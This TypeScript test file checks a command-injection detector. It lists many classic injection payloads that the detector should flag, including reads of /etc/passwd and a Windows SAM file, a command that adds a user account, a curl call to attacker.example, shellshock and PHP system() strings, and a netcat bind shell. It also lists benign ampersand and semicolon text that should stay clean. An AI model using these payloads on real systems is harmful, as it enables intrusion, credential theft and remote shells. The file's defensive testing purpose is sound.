import { test } from 'node:test';
import { assertClean, assertDetected } from './helpers.ts';

test('cmdi: separators followed by commands', () => {
  assertDetected('cmdi', [
    '; id',
    '| id',
    'a;id;',
    '&& whoami',
    '|| ping -c 10 127.0.0.1',
    '& ls -l /home/*',
    '1; cat /etc/passwd',
    'x%0Aid',
    ';/usr/bin/id\\n',
    '&& net user hacker Password1 /ADD',
    '; sleep 15',
    '| type C:\\WINNT\\repair\\SAM',
    '& curl http://attacker.example/x.sh',
  ]);
});

test('cmdi: substitution, IFS, shellshock and code execution', () => {
  assertDetected('cmdi', [
    '$(whoami)',
    '`id`',
    'cat${IFS}/etc/passwd',
    ';cat$IFS$9/etc/passwd',
    '() { :;}; /bin/bash -c "sleep 3"',
    "system('ls')",
    '<?php system("sleep 5");?>',
    '<!--#exec cmd="/usr/bin/id;-->',
    'phpinfo()',
  ]);
});

test('cmdi: a whole value that is a command line', () => {
  assertDetected('cmdi', [
    'whoami',
    'ls -l /etc/',
    'perl -e \'print "X"x1024\'',
    'nc -lvvp 4446 -e /bin/sh|',
    'which python',
  ]);
});

test('cmdi: punctuation and commands in prose stay clean', () => {
  assertClean([
    'Rock & Roll',
    "Tom's Diner & Bar",
    'AT&T',
    'Cut & copy the text',
    'semi;colon and pipe | characters',
    '50% off; today only',
    'It costs 5 EUR; shipping is free',
    'cats; dogs and birds',
    'ls -la shows hidden files (tutorial)',
    "rm -rf is dangerous, don't run it (forum post)",
    'cat food 5kg bag',
    "ping me when you're back",
    'Exec summary attached',
    'Mr. & Mrs. Smith',
    'Terms & Conditions apply*',
    'lol ;) xD <3',
  ]);
});

test('cmdi: a value that is only shell separators is a probe', () => {
  assertDetected('cmdi', [';', '&& ', '||', '`', '%0a']);
  assertClean(['&', '|', 'a & b']);
});
